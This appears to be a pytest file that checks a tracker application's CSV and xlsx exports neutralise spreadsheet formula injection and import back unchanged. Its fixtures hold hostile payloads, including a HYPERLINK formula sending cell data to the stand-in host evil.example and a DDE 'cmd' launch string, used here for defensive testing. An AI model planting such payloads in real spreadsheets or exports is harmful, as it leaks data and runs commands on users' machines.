"""Spreadsheet formula injection: every export of enquiries and households (API and CLI, CSV
and xlsx) writes users' text inert, by the one rule of tracker.core.table_export (a quote
before a CSV cell a spreadsheet would run; xlsx cells always strings, never formulas), and an
exported file imports back without changing what was stored."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from litestar.testing import TestClient
from openpyxl import load_workbook
from sqlalchemy import update

from api.cli.base import main
from tests.conftest import STOKE, bearer
from tracker.core.table_export import FORMULA_STARTS, csv_bytes, read_text, safe_text
from tracker.enquiries.tables import Enquiry
from tracker.enquiries.timeliness import london_today

ENQUIRIES = f"/api/v1/authorities/{STOKE}/enquiries"
HOUSEHOLDS = f"/api/v1/authorities/{STOKE}/households"
XLSX_MEDIA = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TODAY = london_today()
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CAMPAIGN = "@SUM(1+1)*cmd|' /C calc'!A0"
PHONE = "+44 1782 123456"
REFERENCE = "-2-3"


@pytest.fixture
def stored(client: TestClient, tokens: dict[str, str]) -> dict[str, object]:
    """An enquiry whose name, campaign and phone a spreadsheet would run, and a household
    whose reference it would compute."""
    manager = bearer(tokens["manager_stoke"])
    new = {
        "received_on": (TODAY - timedelta(days=5)).isoformat(),
        "channel": "phone",
        "external_ref": "=1+1",
        "enquirer_name": HOSTILE,
        "campaign": CAMPAIGN,
        "phone": PHONE,
    }
    enquiry = client.post(ENQUIRIES, json=new, headers=manager)
    assert enquiry.status_code == 201, enquiry.text
    household = {
        "reference": REFERENCE,
        "care_type": "in_house",
        "approved_on": "2024-01-10",
        "approved_places": 2,
    }
    made = client.post(HOUSEHOLDS, json=household, headers=manager)
    assert made.status_code == 201, made.text
    return enquiry.json()


def exported(client: TestClient, token: str, path: str, fmt: str) -> bytes:
    response = client.get(f"{path}/export?format={fmt}", headers=bearer(token))
    assert response.status_code == 200, response.text
    return response.content


def assert_inert_csv(content: bytes, *values: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    for value in values:
        assert "'" + value in cells


def assert_inert_xlsx(content: bytes, *values: str) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(archive.read(n).decode() for n in sheets)
    assert not re.search(r"<f[ >]", xml), "the workbook holds a formula"
    sheet = load_workbook(io.BytesIO(content)).active
    texts = {cell.value for row in sheet.iter_rows() for cell in row}
    assert set(values) <= texts  # kept as the text it is, as a string cell


def test_enquiry_exports_are_inert_and_import_back_unchanged(client, tokens, stored):
    manager = tokens["manager_stoke"]
    content = exported(client, manager, ENQUIRIES, "csv")
    assert_inert_csv(content, HOSTILE, CAMPAIGN, PHONE, "=1+1")
    workbook = exported(client, manager, ENQUIRIES, "xlsx")
    assert_inert_xlsx(workbook, HOSTILE, CAMPAIGN, PHONE)

    for body, media in ((content, "text/csv"), (workbook, XLSX_MEDIA)):
        report = client.post(
            f"{ENQUIRIES}/import", content=body, headers=bearer(manager) | {"Content-Type": media}
        )
        assert report.status_code == 200, report.text
        assert (report.json()["updated"], report.json()["unchanged"]) == (0, 1)
    again = client.get(f"{ENQUIRIES}/{stored['id']}", headers=bearer(manager)).json()
    assert (again["enquirer_name"], again["campaign"], again["phone"]) == (
        HOSTILE,
        CAMPAIGN,
        PHONE,
    )
    assert again["external_ref"] == "=1+1" and again["version"] == stored["version"]


def test_household_exports_are_inert_and_import_back_unchanged(client, tokens, stored):
    manager = tokens["manager_stoke"]
    content = exported(client, manager, HOUSEHOLDS, "csv")
    assert_inert_csv(content, REFERENCE)
    workbook = exported(client, manager, HOUSEHOLDS, "xlsx")
    assert_inert_xlsx(workbook, REFERENCE)

    for body, media in ((content, "text/csv"), (workbook, XLSX_MEDIA)):
        report = client.post(
            f"{HOUSEHOLDS}/import", content=body, headers=bearer(manager) | {"Content-Type": media}
        )
        assert report.status_code == 200, report.text
        assert (report.json()["created"], report.json()["unchanged"]) == (0, 1)
    listed = client.get(f"{HOUSEHOLDS}/", headers=bearer(manager)).json()
    items = listed["items"] if isinstance(listed, dict) else listed
    assert [h["reference"] for h in items] == [REFERENCE]


def test_cli_exports_are_inert(authorities, stored, tmp_path: Path, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", authorities.url)
    runner = CliRunner()
    for subject, value in (("enquiries", HOSTILE), ("households", REFERENCE)):
        for fmt in ("csv", "xlsx"):
            out = tmp_path / f"{subject}.{fmt}"
            result = runner.invoke(
                main,
                ["export", subject, "--authority", STOKE, "--format", fmt, "--output", str(out)],
            )
            assert result.exit_code == 0, result.output
            check = assert_inert_csv if fmt == "csv" else assert_inert_xlsx
            check(out.read_bytes(), value)


@pytest.mark.parametrize(
    "value", ["=1+1", "+44 1", "-5", "@x", "\tx", "'=x", "''+x", "plain", "'quoted", "", "O'Neil"]
)
def test_the_guard_round_trips_every_value(value):
    assert read_text(safe_text(value)) == value
    assert not safe_text(value).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("line_end", ["\n", "\r\n"])
def test_a_cell_holding_a_cr_or_lf_is_quoted_whatever_the_row_end(line_end):
    cells = ["\r=1+1", "a\rb", "a\nb", "a\r\nb", "plain"]
    content = csv_bytes(["c1", "c2", "c3", "c4", "c5"], [cells, ["x"] * 5], line_end=line_end)

    text = content.decode("utf-8-sig")
    assert '"\'\r=1+1","a\rb","a\nb","a\r\nb",plain' + line_end in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1:] == [[safe_text(c) for c in cells], ["x"] * 5]
    assert [read_text(c) for c in rows[1]] == cells


def test_stored_control_characters_export_quoted_and_import_back_unchanged(
    client, tokens, authorities
):
    """An enquiry stored before one-line text refused control characters (the probe's
    "\\t=1+1" name and "\\r=1+1" campaign): its CSV export keeps each cell whole (a bare CR
    quoted, the formula guard in front), reads back with the csv module to the same cells,
    and imports back unchanged."""
    manager = tokens["manager_stoke"]
    made = client.post(
        ENQUIRIES,
        json={"received_on": (TODAY - timedelta(days=3)).isoformat(), "channel": "web_form"},
        headers=bearer(manager),
    )
    assert made.status_code == 201, made.text
    legacy = {"enquirer_name": "\t=1+1", "campaign": "\r=1+1", "external_ref": "OLD\r\nREF"}
    with authorities.writing() as session:
        session.execute(update(Enquiry).where(Enquiry.id == made.json()["id"]).values(**legacy))
    before = client.get(f"{ENQUIRIES}/{made.json()['id']}", headers=bearer(manager)).json()

    content = exported(client, manager, ENQUIRIES, "csv")

    assert b',"\'\r=1+1",' in content  # the bare CR inside a quoted cell
    header, *rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    assert len(rows) == 1
    cells = dict(zip(header, rows[0], strict=True))
    assert {k: read_text(cells[k]) for k in legacy} == legacy
    assert (cells["enquirer_name"], cells["campaign"]) == ("'\t=1+1", "'\r=1+1")
    dry = client.post(
        f"{ENQUIRIES}/import?dry_run=true",
        content=content,
        headers=bearer(manager) | {"Content-Type": "text/csv"},
    )
    assert dry.status_code == 200, dry.text
    assert (dry.json()["created"], dry.json()["updated"], dry.json()["unchanged"]) == (0, 0, 1)
    imported = client.post(
        f"{ENQUIRIES}/import",
        content=content,
        headers=bearer(manager) | {"Content-Type": "text/csv"},
    )
    assert imported.status_code == 200, imported.text
    after = client.get(f"{ENQUIRIES}/{made.json()['id']}", headers=bearer(manager)).json()
    assert after == before
